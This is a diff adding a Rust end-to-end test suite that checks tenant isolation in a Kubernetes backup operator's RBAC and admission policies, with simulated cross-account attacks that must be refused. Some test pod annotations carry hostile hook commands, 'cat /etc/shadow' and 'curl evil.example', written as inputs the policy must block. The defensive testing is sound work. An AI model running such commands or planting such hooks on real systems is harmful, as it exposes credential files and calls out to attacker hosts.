@@ -1,0 +1,995 @@
+//! Tenant isolation on the test bed, through real RBAC and the chart's admission policies:
+//! a tenant of one account (the chart's rewind-editor role, admin in its own namespaces) tries
+//! every way we know to read, change or destroy another account's backups; each is refused
+//! with why and who may, and the other account's backups, schedules and snapshots are exactly
+//! as before. The platform admin can still do everything; the operator still does its work.
+
+mod support;
+
+use std::sync::OnceLock;
+use std::time::Duration;
+
+use serde_json::Value;
+use support::operator::Operator;
+use support::{Bed, TestNamespace, repo_root, unique};
+
+const DONE: Duration = Duration::from_secs(150);
+const PLATFORM_ADMINS: &str = "rewind:platform-admins";
+
+fn operator(bed: &Bed) -> &'static Operator {
+    Operator::shared(bed, &[])
+}
+
+/// A person: a user name and the groups the API server authenticates them with.
+#[derive(Clone)]
+struct Person {
+    name: String,
+    groups: Vec<String>,
+}
+
+impl Person {
+    /// Runs kubectl as this person (impersonation: real authentication, RBAC and admission).
+    fn kubectl(&self, bed: &Bed, args: &[&str], stdin: Option<&str>) -> Result<String, String> {
+        let mut full: Vec<&str> = args.to_vec();
+        full.extend(["--as", &self.name]);
+        for group in &self.groups {
+            full.extend(["--as-group", group]);
+        }
+        bed.kubectl_with_stdin(&full, stdin.map(str::as_bytes))
+    }
+
+    fn create(&self, bed: &Bed, yaml: &str) -> Result<String, String> {
+        self.kubectl(bed, &["create", "-f", "-"], Some(yaml))
+    }
+}
+
+/// Two accounts, an owner of each, and a platform admin, with the chart's user roles.
+struct Tenancy<'a> {
+    bed: &'a Bed,
+    victim: String,
+    attacker: String,
+    alice: Person,
+    mallory: Person,
+    admin: Person,
+    bindings: Vec<String>,
+}
+
+/// The chart's user ClusterRoles under names of this suite's own (`tenancy-rewind-*`), so a
+/// `helm install` of the chart on the same bed never finds them in its way.
+fn user_roles(bed: &Bed) {
+    static ONCE: OnceLock<()> = OnceLock::new();
+    ONCE.get_or_init(|| {
+        let rendered = bed
+            .helm(&[
+                "template",
+                "rewind",
+                &repo_root().join("charts/rewind").to_string_lossy(),
+                "--namespace",
+                "rewind-system",
+                "--kube-version",
+                "1.36.0",
+                "--show-only",
+                "templates/rbac-users.yaml",
+            ])
+            .expect("render the chart's user roles");
+        bed.kubectl_with_stdin(
+            &["apply", "-f", "-"],
+            Some(
+                rendered
+                    .replace("name: rewind-", "name: tenancy-rewind-")
+                    .as_bytes(),
+            ),
+        )
+        .expect("apply the user roles");
+    });
+}
+
+impl<'a> Tenancy<'a> {
+    fn new(bed: &'a Bed) -> Self {
+        operator(bed);
+        user_roles(bed);
+        let victim = unique("victim");
+        let attacker = unique("mallory");
+        let alice = Person {
+            name: unique("alice"),
+            groups: vec![format!("rewind:owners:{victim}")],
+        };
+        let mallory = Person {
+            name: unique("mallory"),
+            groups: vec![format!("rewind:owners:{attacker}")],
+        };
+        let admin = Person {
+            name: unique("platform"),
+            groups: vec![PLATFORM_ADMINS.to_string()],
+        };
+        let mut tenancy = Tenancy {
+            bed,
+            victim,
+            attacker,
+            alice,
+            mallory,
+            admin,
+            bindings: Vec::new(),
+        };
+        for (person, role) in [
+            (tenancy.alice.clone(), "tenancy-rewind-editor"),
+            (tenancy.mallory.clone(), "tenancy-rewind-editor"),
+            (tenancy.admin.clone(), "cluster-admin"),
+        ] {
+            tenancy.cluster_binding(&person, role);
+        }
+        tenancy.wait_for_policies();
+        tenancy
+    }
+
+    fn cluster_binding(&mut self, person: &Person, role: &str) {
+        let name = unique("tenancy");
+        self.bed.kubectl_ok(&[
+            "create",
+            "clusterrolebinding",
+            &name,
+            &format!("--clusterrole={role}"),
+            &format!("--user={}", person.name),
+        ]);
+        self.bindings.push(name);
+    }
+
+    /// Policies take effect a moment after they are applied: wait until mallory's backup of
+    /// the victim's account is refused (a server-side dry run, so nothing is created).
+    fn wait_for_policies(&self) {
+        let yaml = backup_yaml(&unique("probe"), &self.victim, "");
+        self.bed.wait_until(
+            "the account-ownership policy to be in force",
+            Duration::from_secs(60),
+            || {
+                self.mallory
+                    .kubectl(
+                        self.bed,
+                        &["create", "--dry-run=server", "-f", "-"],
+                        Some(&yaml),
+                    )
+                    .err()
+                    .filter(|e| e.contains("rewind:owners:"))
+            },
+            String::new,
+        );
+    }
+
+    /// A project of `account`, created by the admin, where `owner` is a namespace admin.
+    fn project(&self, account: &str, owner: &Person) -> TestNamespace<'a> {
+        let project = self.bed.project("proj", account);
+        self.bed.kubectl_ok(&[
+            "-n",
+            &project.name,
+            "create",
+            "rolebinding",
+            "owner-is-admin",
+            "--clusterrole=admin",
+            &format!("--user={}", owner.name),
+        ]);
+        self.bed.apply(&format!(
+            "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: settings, namespace: {}}}\ndata: {{plan: gold}}\n",
+            project.name
+        ));
+        project
+    }
+
+    /// A completed backup of `account`, created by `person`.
+    fn completed_backup(&self, person: &Person, account: &str) -> (String, Value) {
+        let name = unique("ab");
+        person
+            .create(self.bed, &backup_yaml(&name, account, ""))
+            .unwrap_or_else(|e| panic!("{} may back up {account}: {e}", person.name));
+        let status = wait_phase(self.bed, "accountbackup", &name, &["Completed"]);
+        (name, status)
+    }
+}
+
+impl Drop for Tenancy<'_> {
+    fn drop(&mut self) {
+        for binding in &self.bindings {
+            let _ = self.bed.kubectl(&[
+                "delete",
+                "clusterrolebinding",
+                binding,
+                "--ignore-not-found",
+            ]);
+        }
+    }
+}
+
+fn backup_yaml(name: &str, account: &str, metadata_extra: &str) -> String {
+    format!(
+        "apiVersion: rewind.dev/v1alpha1\nkind: AccountBackup\nmetadata:\n  name: {name}\n{metadata_extra}spec: {{account: {account}}}\n"
+    )
+}
+
+fn restore_yaml(name: &str, account: &str, backup: &str, targets: &str) -> String {
+    format!(
+        "apiVersion: rewind.dev/v1alpha1\nkind: ProjectRestore\nmetadata: {{name: {name}}}\nspec:\n  account: {account}\n  backup: {backup}\n  targetNamespaces: {targets}\n"
+    )
+}
+
+fn object(bed: &Bed, args: &[&str]) -> Value {
+    let mut full = vec!["get"];
+    full.extend_from_slice(args);
+    full.extend(["-o", "json"]);
+    bed.kubectl(&full)
+        .ok()
+        .and_then(|text| serde_json::from_str(&text).ok())
+        .unwrap_or(Value::Null)
+}
+
+fn wait_phase(bed: &Bed, kind: &str, name: &str, phases: &[&str]) -> Value {
+    bed.wait_until(
+        &format!("{kind} {name} to reach {phases:?}"),
+        DONE,
+        || {
+            let status = object(bed, &[kind, name])["status"].clone();
+            phases
+                .contains(&status["phase"].as_str().unwrap_or_default())
+                .then_some(status)
+        },
+        || {
+            format!(
+                "{}\n--- operator log ---\n{}",
+                object(bed, &[kind, name]),
+                operator(bed).log_tail()
+            )
+        },
+    )
+}
+
+fn refused(result: Result<String, String>, what: &str, says: &[&str]) {
+    match result {
+        Ok(out) => panic!("{what} was allowed: {out}"),
+        Err(err) => {
+            for words in says {
+                assert!(
+                    err.contains(words),
+                    "{what}: the refusal should say {words:?}: {err}"
+                );
+            }
+        }
+    }
+}
+
+fn namespace_exists(bed: &Bed, name: &str) -> bool {
+    bed.kubectl(&["get", "namespace", name]).is_ok()
+}
+
+#[test]
+fn a_tenant_cannot_restore_another_accounts_backup_but_the_platform_admin_can() {
+    let bed = Bed::get();
+    let t = Tenancy::new(&bed);
+    let project = t.project(&t.victim, &t.alice);
+    let (backup, before) = t.completed_backup(&t.alice, &t.victim);
+
+    let stolen = unique("steal");
+    refused(
+        t.mallory.create(
+            &bed,
+            &restore_yaml(
+                &unique("pr"),
+                &t.victim,
+                &backup,
+                &format!("{{{}: {stolen}}}", project.name),
+            ),
+        ),
+        "mallory restoring in the victim's name",
+        &[&format!("rewind:owners:{}", t.victim), "platform admins"],
+    );
+
+    // Naming her own account gets past admission; the operator compares the backup's account.
+    let restore = unique("pr");
+    t.mallory
+        .create(
+            &bed,
+            &restore_yaml(
+                &restore,
+                &t.attacker,
+                &backup,
+                &format!("{{{}: {stolen}}}", project.name),
+            ),
+        )
+        .expect("a restore in her own account's name is admitted");
+    let status = wait_phase(&bed, "projectrestore", &restore, &["Failed"]);
+    let conditions = status["conditions"].to_string();
+    assert!(conditions.contains("AccountMismatch"), "{status}");
+    assert!(
+        !namespace_exists(&bed, &stolen),
+        "no namespace was created for mallory"
+    );
+    assert_eq!(
+        object(&bed, &["accountbackup", &backup])["status"],
+        before,
+        "the victim's backup is exactly as before"
+    );
+
+    // The platform admin restores any account's backup.
+    let copy = unique("copy");
+    let admin_restore = unique("pr");
+    t.admin
+        .create(
+            &bed,
+            &restore_yaml(
+                &admin_restore,
+                &t.victim,
+                &backup,
+                &format!("{{{}: {copy}}}", project.name),
+            ),
+        )
+        .expect("the platform admin may restore the victim's backup");
+    wait_phase(&bed, "projectrestore", &admin_restore, &["Completed"]);
+    assert_eq!(
+        bed.jsonpath(&["-n", &copy, "configmap", "settings"], "{.data.plan}")
+            .as_deref(),
+        Some("gold")
+    );
+    let _ = bed.kubectl(&["delete", "namespace", &copy, "--wait=false"]);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_tenant_cannot_import_another_accounts_snapshot_nor_make_the_operator_release_it() {
+    let bed = Bed::get();
+    let t = Tenancy::new(&bed);
+    let _project = t.project(&t.victim, &t.alice);
+    let (backup, before) = t.completed_backup(&t.alice, &t.victim);
+    let snapshot = before["repositorySnapshot"]
+        .as_str()
+        .expect("a snapshot id")
+        .to_string();
+
+    refused(
+        t.mallory.create(
+            &bed,
+            &backup_yaml(
+                &unique("ab"),
+                &t.attacker,
+                &format!("  annotations: {{rewind.dev/imported-from-snapshot: \"{snapshot}\"}}\n"),
+            ),
+        ),
+        "mallory importing the victim's snapshot",
+        &["written only by the operator"],
+    );
+    refused(
+        t.mallory.create(
+            &bed,
+            &backup_yaml(
+                &unique("ab"),
+                &t.attacker,
+                "  labels: {rewind.dev/imported: \"true\"}\n",
+            ),
+        ),
+        "mallory marking a backup imported",
+        &["written only by the operator"],
+    );
+
+    // Even without the policy (here: an admin writes what a tenant could on a cluster that
+    // has none), the operator imports only what its repository records under that name and account.
+    let forged = unique("ab");
+    t.admin
+        .create(
+            &bed,
+            &backup_yaml(
+                &forged,
+                &t.attacker,
+                &format!("  annotations: {{rewind.dev/imported-from-snapshot: \"{snapshot}\"}}\n"),
+            ),
+        )
+        .expect("an admin may write the annotation");
+    let status = wait_phase(&bed, "accountbackup", &forged, &["Failed"]);
+    assert!(
+        status["conditions"].to_string().contains("ImportRefused"),
+        "{status}"
+    );
+    assert!(status["repositorySnapshot"].is_null(), "{status}");
+    bed.kubectl_ok(&[
+        "delete",
+        "accountbackup",
+        &forged,
+        "--wait=true",
+        "--timeout=60s",
+    ]);
+
+    let ids: Vec<String> = operator(&bed)
+        .repository()
+        .await
+        .list_snapshots()
+        .await
+        .expect("list snapshots")
+        .into_iter()
+        .map(|manifest| manifest.id)
+        .collect();
+    assert!(
+        ids.contains(&snapshot),
+        "the victim's snapshot is still in the repository: {ids:?}"
+    );
+    assert_eq!(object(&bed, &["accountbackup", &backup])["status"], before);
+}
+
+#[test]
+fn a_tenant_cannot_make_another_accounts_schedule_treat_her_backups_as_its_slots() {
+    let bed = Bed::get();
+    let t = Tenancy::new(&bed);
+    let schedule = unique("daily");
+    bed.apply(&format!(
+        "apiVersion: rewind.dev/v1alpha1\nkind: BackupSchedule\nmetadata: {{name: {schedule}}}\nspec: {{account: {}, schedule: \"0 3 * * *\", retention: {{keepLast: 1}}}}\n",
+        t.victim
+    ));
+    let schedule_status = |bed: &Bed| {
+        bed.wait_until(
+            "the schedule's next slot",
+            DONE,
+            || {
+                object(bed, &["backupschedule", &schedule])["status"]["nextScheduleTime"]
+                    .as_str()
+                    .map(str::to_string)
+            },
+            String::new,
+        )
+    };
+    let next_before = schedule_status(&bed);
+    let uid = bed
+        .jsonpath(&["backupschedule", &schedule], "{.metadata.uid}")
+        .expect("the schedule's uid");
+    let owner = format!(
+        "  ownerReferences: [{{apiVersion: rewind.dev/v1alpha1, kind: BackupSchedule, name: {schedule}, uid: {uid}, controller: true}}]\n"
+    );
+    let labelled = format!("  labels: {{rewind.dev/schedule: {schedule}}}\n");
+    let slotted = "  annotations: {rewind.dev/slot: \"2099-01-01T03:00:00Z\"}\n".to_string();
+    for (what, extra) in [
+        ("the schedule label", labelled.clone()),
+        ("a slot annotation", slotted.clone()),
+        ("an owner reference to the victim's schedule", owner.clone()),
+    ] {
+        refused(
+            t.mallory
+                .create(&bed, &backup_yaml(&unique("ab"), &t.attacker, &extra)),
+            &format!("mallory's backup with {what}"),
+            &["written only by the operator"],
+        );
+    }
+    refused(
+        t.mallory
+            .kubectl(&bed, &["delete", "backupschedule", &schedule], None),
+        "mallory deleting the victim's schedule",
+        &["forbidden"],
+    );
+
+    // Without the policy the schedule still ignores her backup: it is not in its account.
+    let forged = unique("ab");
+    t.admin
+        .create(
+            &bed,
+            &backup_yaml(&forged, &t.attacker, &format!("{labelled}{slotted}{owner}")),
+        )
+        .expect("an admin may write the markers");
+    bed.kubectl_ok(&[
+        "annotate",
+        "backupschedule",
+        &schedule,
+        &format!("e2e/poke={forged}"),
+    ]);
+    std::thread::sleep(Duration::from_secs(5));
+    let next_after = schedule_status(&bed);
+    assert_eq!(
+        next_before, next_after,
+        "the forged 2099 slot moved the victim's schedule"
+    );
+    let status = object(&bed, &["backupschedule", &schedule])["status"].clone();
+    assert!(
+        status["lastScheduleTime"].is_null(),
+        "the victim's schedule took the forged backup's 2099 slot as its own: {status}"
+    );
+    assert!(
+        bed.kubectl(&["get", "accountbackup", &forged]).is_ok(),
+        "the victim's schedule pruned the forged backup as its own"
+    );
+    bed.kubectl_ok(&["delete", "accountbackup", &forged, "--wait=false"]);
+    bed.kubectl_ok(&["delete", "backupschedule", &schedule, "--wait=false"]);
+}
+
+#[test]
+fn the_requester_is_the_authenticated_user_and_cannot_be_renamed() {
+    let bed = Bed::get();
+    let mut t = Tenancy::new(&bed);
+    let _project = t.project(&t.victim, &t.alice);
+    let name = unique("ab");
+    t.alice
+        .create(
+            &bed,
+            &backup_yaml(
+                &name,
+                &t.victim,
+                "  annotations: {rewind.dev/requested-by: the-ceo}\n",
+            ),
+        )
+        .expect("alice backs up her account");
+    assert_eq!(
+        bed.jsonpath(
+            &["accountbackup", &name],
+            "{.metadata.annotations.rewind\\.dev/requested-by}"
+        )
+        .as_deref(),
+        Some(t.alice.name.as_str()),
+        "admission stamps the authenticated user over what the client wrote"
+    );
+    let status = wait_phase(&bed, "accountbackup", &name, &["Completed"]);
+    assert_eq!(status["requestedBy"], t.alice.name.as_str(), "{status}");
+
+    // An owner with the full rewind-admin role still cannot rename the requester.
+    let alice = t.alice.clone();
+    t.cluster_binding(&alice, "tenancy-rewind-admin");
+    refused(
+        bed.wait_until(
+            "RBAC to let alice annotate",
+            Duration::from_secs(30),
+            || {
+                let result = t.alice.kubectl(
+                    &bed,
+                    &[
+                        "annotate",
+                        "accountbackup",
+                        &name,
+                        "rewind.dev/requested-by=the-ceo",
+                        "--overwrite",
+                    ],
+                    None,
+                );
+                (!matches!(&result, Err(e) if e.contains("cannot patch"))).then_some(result)
+            },
+            String::new,
+        ),
+        "alice renaming the requester",
+        &["cannot name someone else or be changed"],
+    );
+}
+
+#[test]
+fn a_tenant_cannot_move_a_namespace_into_another_account_or_hold_its_backups() {
+    let bed = Bed::get();
+    let mut t = Tenancy::new(&bed);
+    let victim_project = t.project(&t.victim, &t.alice);
+    let own = t.project(&t.attacker, &t.mallory);
+    // The platform lets mallory edit her own namespace object and create namespaces.
+    let role = unique("ns-editor");
+    bed.apply(&format!(
+        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {{name: {role}}}\nrules:\n- {{apiGroups: [\"\"], resources: [namespaces], verbs: [get, patch, update], resourceNames: [{}]}}\n- {{apiGroups: [\"\"], resources: [namespaces], verbs: [create]}}\n",
+        own.name
+    ));
+    let mallory = t.mallory.clone();
+    t.cluster_binding(&mallory, &role);
+    bed.wait_until(
+        "RBAC to let mallory annotate her namespace",
+        Duration::from_secs(30),
+        || {
+            t.mallory
+                .kubectl(
+                    &bed,
+                    &[
+                        "annotate",
+                        "namespace",
+                        &own.name,
+                        "team=blue",
+                        "--overwrite",
+                    ],
+                    None,
+                )
+                .ok()
+        },
+        String::new,
+    );
+    let refusal = ["set only by platform admins", PLATFORM_ADMINS];
+    refused(
+        t.mallory.kubectl(
+            &bed,
+            &[
+                "label",
+                "namespace",
+                &own.name,
+                &format!("rewind.dev/account={}", t.victim),
+                "--overwrite",
+            ],
+            None,
+        ),
+        "mallory moving her namespace into the victim's account",
+        &refusal,
+    );
+    refused(
+        t.mallory.kubectl(
+            &bed,
+            &["label", "namespace", &own.name, "rewind.dev/account-"],
+            None,
+        ),
+        "mallory taking her namespace out of her account",
+        &refusal,
+    );
+    refused(
+        t.mallory.kubectl(
+            &bed,
+            &[
+                "annotate",
+                "namespace",
+                &own.name,
+                "rewind.dev/busy=forever",
+            ],
+            None,
+        ),
+        "mallory marking a namespace busy",
+        &refusal,
+    );
+    for (what, metadata) in [
+        (
+            "labelled into the victim's account",
+            format!("labels: {{rewind.dev/account: {}}}", t.victim),
+        ),
+        (
+            "posing as a restore's namespace",
+            "annotations: {rewind.dev/restore-uid: anything}".to_string(),
+        ),
+    ] {
+        let name = unique("evil");
+        refused(
+            t.mallory.create(
+                &bed,
+                &format!(
+                    "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: {name}\n  {metadata}\n"
+                ),
+            ),
+            &format!("mallory creating a namespace {what}"),
+            &refusal,
+        );
+        assert!(!namespace_exists(&bed, &name));
+    }
+
+    // The victim's backup holds exactly the victim's project and is never held Queued.
+    let (_, status) = t.completed_backup(&t.alice, &t.victim);
+    let projects: Vec<&str> = status["projects"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(|p| p["name"].as_str())
+        .collect();
+    assert_eq!(projects, vec![victim_project.name.as_str()], "{status}");
+
+    // The platform admin moves namespaces between accounts.
+    bed.wait_until(
+        "the platform admin to label a namespace",
+        Duration::from_secs(30),
+        || {
+            t.admin
+                .kubectl(
+                    &bed,
+                    &[
+                        "label",
+                        "namespace",
+                        &own.name,
+                        &format!("rewind.dev/account={}", t.victim),
+                        "--overwrite",
+                    ],
+                    None,
+                )
+                .ok()
+        },
+        || "the platform admin could not label".into(),
+    );
+    let _ = bed.kubectl(&["delete", "clusterrole", &role]);
+}
+
+#[test]
+fn annotations_that_run_commands_need_the_right_to_exec() {
+    let bed = Bed::get();
+    let t = Tenancy::new(&bed);
+    let project = t.project(&t.victim, &t.alice);
+    let ns = project.name.as_str();
+    // Someone who may create and patch pods and deployments here, but not exec into them.
+    let patcher = Person {
+        name: unique("patcher"),
+        groups: vec![],
+    };
+    bed.apply(&format!(
+        "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {{name: pod-patcher, namespace: {ns}}}\nrules:\n- {{apiGroups: [\"\"], resources: [pods], verbs: [get, list, create, patch, update]}}\n- {{apiGroups: [apps], resources: [deployments], verbs: [get, create, patch]}}\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: pod-patcher, namespace: {ns}}}\nroleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: pod-patcher}}\nsubjects: [{{kind: User, name: {}}}]\n",
+        patcher.name
+    ));
+    let pod = |name: &str, annotations: &str| {
+        format!(
+            "apiVersion: v1\nkind: Pod\nmetadata: {{name: {name}, namespace: {ns}, annotations: {{{annotations}}}}}\nspec: {{containers: [{{name: db, image: postgres:17}}]}}\n"
+        )
+    };
+    let says = ["pods/exec", "rewind.dev/backup-command"];
+    bed.wait_until(
+        "RBAC to let the patcher create pods",
+        Duration::from_secs(30),
+        || patcher.create(&bed, &pod("plain", "")).ok(),
+        String::new,
+    );
+    refused(
+        patcher.create(
+            &bed,
+            &pod("db", "rewind.dev/backup-command: \"cat /etc/shadow\""),
+        ),
+        "a pod whose annotation runs a command, by someone who may not exec",
+        &says,
+    );
+    refused(
+        patcher.kubectl(
+            &bed,
+            &[
+                "-n",
+                ns,
+                "annotate",
+                "pod",
+                "plain",
+                "rewind.dev/pre-backup=curl evil.example",
+            ],
+            None,
+        ),
+        "annotating a running pod with a hook",
+        &["pods/exec", "rewind.dev/pre-backup"],
+    );
+    patcher
+        .kubectl(
+            &bed,
+            &["-n", ns, "annotate", "pod", "plain", "team=db"],
+            None,
+        )
+        .expect("other annotations stay the patcher's business");
+    refused(
+        patcher.create(
+            &bed,
+            &format!(
+                "apiVersion: apps/v1\nkind: Deployment\nmetadata: {{name: db, namespace: {ns}}}\nspec:\n  selector: {{matchLabels: {{app: db}}}}\n  template:\n    metadata: {{labels: {{app: db}}, annotations: {{rewind.dev/backup-command: \"cat /etc/shadow\"}}}}\n    spec: {{containers: [{{name: db, image: postgres:17}}]}}\n"
+            ),
+        ),
+        "a Deployment whose pod template runs a command",
+        &says,
+    );
+
+    // A namespace admin (who may exec anyway) sets them, and the cluster's controllers make
+    // the Deployment's pods from the checked template.
+    t.alice
+        .kubectl(
+            &bed,
+            &[
+                "-n",
+                ns,
+                "annotate",
+                "pod",
+                "plain",
+                "rewind.dev/database=postgres",
+            ],
+            None,
+        )
+        .expect("a namespace admin may mark a database pod");
+    t.alice
+        .create(
+            &bed,
+            &format!(
+                "apiVersion: apps/v1\nkind: Deployment\nmetadata: {{name: db, namespace: {ns}}}\nspec:\n  selector: {{matchLabels: {{app: db}}}}\n  template:\n    metadata: {{labels: {{app: db}}, annotations: {{rewind.dev/database: postgres}}}}\n    spec: {{containers: [{{name: db, image: postgres:17}}]}}\n"
+            ),
+        )
+        .expect("a namespace admin may template a database pod");
+    bed.wait_until(
+        "the Deployment's pod, made by the ReplicaSet controller",
+        Duration::from_secs(60),
+        || {
+            bed.jsonpath(
+                &["-n", ns, "pods", "-l", "app=db"],
+                "{.items[0].metadata.annotations.rewind\\.dev/database}",
+            )
+        },
+        || bed.describe(ns),
+    );
+}
+
+#[test]
+fn a_restored_project_is_no_weaker_than_its_source_and_inert() {
+    let bed = Bed::get();
+    let t = Tenancy::new(&bed);
+    let project = t.project(&t.victim, &t.alice);
+    let ns = project.name.as_str();
+    bed.kubectl_ok(&[
+        "label",
+        "namespace",
+        ns,
+        "pod-security.kubernetes.io/enforce=baseline",
+    ]);
+    bed.apply(&format!(
+        r#"apiVersion: batch/v1
+kind: Job
+metadata: {{name: migrate, namespace: {ns}}}
+spec:
+  suspend: true
+  template: {{spec: {{restartPolicy: Never, containers: [{{name: m, image: busybox}}]}}}}
+---
+apiVersion: v1
+kind: Service
+metadata:
+  name: web
+  namespace: {ns}
+  annotations: {{external-dns.alpha.kubernetes.io/hostname: shop.example.com}}
+spec: {{type: LoadBalancer, selector: {{app: web}}, ports: [{{port: 80}}]}}
+---
+apiVersion: networking.k8s.io/v1
+kind: NetworkPolicy
+metadata: {{name: allow-everyone, namespace: {ns}}}
+spec: {{podSelector: {{}}, ingress: [{{}}]}}
+---
+apiVersion: networking.k8s.io/v1
+kind: NetworkPolicy
+metadata: {{name: web-to-db, namespace: {ns}}}
+spec: {{podSelector: {{matchLabels: {{app: db}}}}, ingress: [{{from: [{{podSelector: {{matchLabels: {{app: web}}}}}}]}}]}}
+"#
+    ));
+    // The Job was suspended in the source; un-suspend it so the copy's change is visible.
+    bed.kubectl_ok(&[
+        "-n",
+        ns,
+        "patch",
+        "job",
+        "migrate",
+        "--type=merge",
+        "-p",
+        r#"{"spec":{"suspend":false}}"#,
+    ]);
+    let (backup, _) = t.completed_backup(&t.alice, &t.victim);
+
+    // Targets the API server can judge are refused at admission.
+    for (targets, says) in [
+        (format!("{{{ns}: kube-evil}}"), "system namespace"),
+        (format!("{{{ns}: default}}"), "system namespace"),
+        ("{a: same, b: same}".to_string(), "same namespace"),
+        (format!("{{{ns}: rewind-system}}"), "operator's namespace"),
+    ] {
+        refused(
+            t.alice.create(
+                &bed,
+                &restore_yaml(&unique("pr"), &t.victim, &backup, &targets),
+            ),
+            &format!("a restore into {targets}"),
+            &[says],
+        );
+    }
+
+    let copy = unique("copy");
+    let restore = unique("pr");
+    t.alice
+        .create(
+            &bed,
+            &restore_yaml(&restore, &t.victim, &backup, &format!("{{{ns}: {copy}}}")),
+        )
+        .expect("alice restores her project");
+    let status = wait_phase(&bed, "projectrestore", &restore, &["Completed"]);
+    let copied = object(&bed, &["namespace", &copy]);
+    assert_eq!(
+        copied["metadata"]["labels"]["pod-security.kubernetes.io/enforce"], "baseline",
+        "{copied}"
+    );
+    assert_eq!(
+        bed.jsonpath(&["-n", &copy, "job", "migrate"], "{.spec.suspend}")
+            .as_deref(),
+        Some("true")
+    );
+    let service = object(&bed, &["-n", &copy, "service", "web"]);
+    assert_eq!(service["spec"]["type"], "ClusterIP", "{service}");
+    assert!(
+        service["metadata"]["annotations"]["external-dns.alpha.kubernetes.io/hostname"].is_null(),
+        "{service}"
+    );
+    assert!(
+        bed.kubectl(&["-n", &copy, "get", "networkpolicy", "allow-everyone"])
+            .is_err()
+    );
+    assert!(
+        bed.kubectl(&["-n", &copy, "get", "networkpolicy", "web-to-db"])
+            .is_ok()
+    );
+    assert!(
+        bed.kubectl(&[
+            "-n",
+            &copy,
+            "get",
+            "networkpolicy",
+            "rewind-isolate-restored-project"
+        ])
+        .is_ok()
+    );
+    let adjusted = status["adjusted"].to_string();
+    assert!(
+        adjusted.contains("migrate") && adjusted.contains("suspended"),
+        "{status}"
+    );
+    assert!(
+        adjusted.contains("LoadBalancer changed to ClusterIP"),
+        "{status}"
+    );
+    assert!(adjusted.contains("external-dns"), "{status}");
+    let skipped = status["skipped"].to_string();
+    assert!(
+        skipped.contains("allow-everyone") && skipped.contains("reopen"),
+        "{status}"
+    );
+    let _ = bed.kubectl(&["delete", "namespace", &copy, "--wait=false"]);
+}
+
+#[test]
+fn admission_edges_are_decided_by_the_rules_never_by_an_evaluation_error() {
+    let bed = Bed::get();
+    let t = Tenancy::new(&bed);
+    let project = t.project(&t.victim, &t.alice);
+    let ns = project.name.as_str();
+    let dry = |person: &Person, args: &[&str], yaml: Option<&str>| {
+        let mut full: Vec<&str> = args.to_vec();
+        full.push("--dry-run=server");
+        person.kubectl(&bed, &full, yaml)
+    };
+    let no_errors = |result: &Result<String, String>| {
+        if let Err(e) = result {
+            assert!(
+                !e.contains("expression")
+                    && !e.contains("no such key")
+                    && !e.contains("evaluation"),
+                "a policy failed to evaluate instead of deciding: {e}"
+            );
+        }
+    };
+    // A user with no groups at all: refused by the rule, naming who may.
+    let nobody = Person {
+        name: t.mallory.name.clone(),
+        groups: vec![],
+    };
+    let result = dry(
+        &nobody,
+        &["create", "-f", "-"],
+        Some(&backup_yaml(&unique("ab"), &t.victim, "")),
+    );
+    no_errors(&result);
+    refused(result, "a user in no group", &["rewind:owners:"]);
+
+    // DELETE carries no object, only the old one: a non-owner is refused, the owner allowed.
+    let (backup, _) = t.completed_backup(&t.alice, &t.victim);
+    let result = dry(&t.mallory, &["delete", "accountbackup", &backup], None);
+    no_errors(&result);
+    refused(
+        result,
+        "mallory deleting the victim's backup",
+        &["forbidden"],
+    );
+    let result = dry(&t.admin, &["delete", "accountbackup", &backup], None);
+    no_errors(&result);
+    result.expect("the platform admin deletes any backup");
+
+    // Objects with no labels, no annotations, no template metadata at all.
+    let result = dry(
+        &t.admin,
+        &["create", "-f", "-"],
+        Some(&format!(
+            "apiVersion: v1\nkind: Namespace\nmetadata: {{name: {}}}\n",
+            unique("bare")
+        )),
+    );
+    no_errors(&result);
+    result.expect("a namespace without labels");
+    let result = dry(&t.admin, &["annotate", "namespace", ns, "x=y"], None);
+    no_errors(&result);
+    result.expect("an annotation on a namespace that has no rewind.dev/busy");
+    let result = dry(
+        &t.alice,
+        &["create", "-f", "-"],
+        Some(&format!(
+            "apiVersion: batch/v1\nkind: CronJob\nmetadata: {{name: c, namespace: {ns}}}\nspec:\n  schedule: \"0 0 * * *\"\n  jobTemplate: {{spec: {{template: {{spec: {{restartPolicy: Never, containers: [{{name: c, image: busybox}}]}}}}}}}}\n"
+        )),
+    );
+    no_errors(&result);
+    result.expect("a CronJob whose template has no metadata");
+    let result = dry(
+        &t.alice,
+        &["create", "-f", "-"],
+        Some(&format!(
+            "apiVersion: v1\nkind: Pod\nmetadata: {{name: bare, namespace: {ns}}}\nspec: {{containers: [{{name: c, image: busybox}}]}}\n"
+        )),
+    );
+    no_errors(&result);
+    result.expect("a pod without annotations");
+}
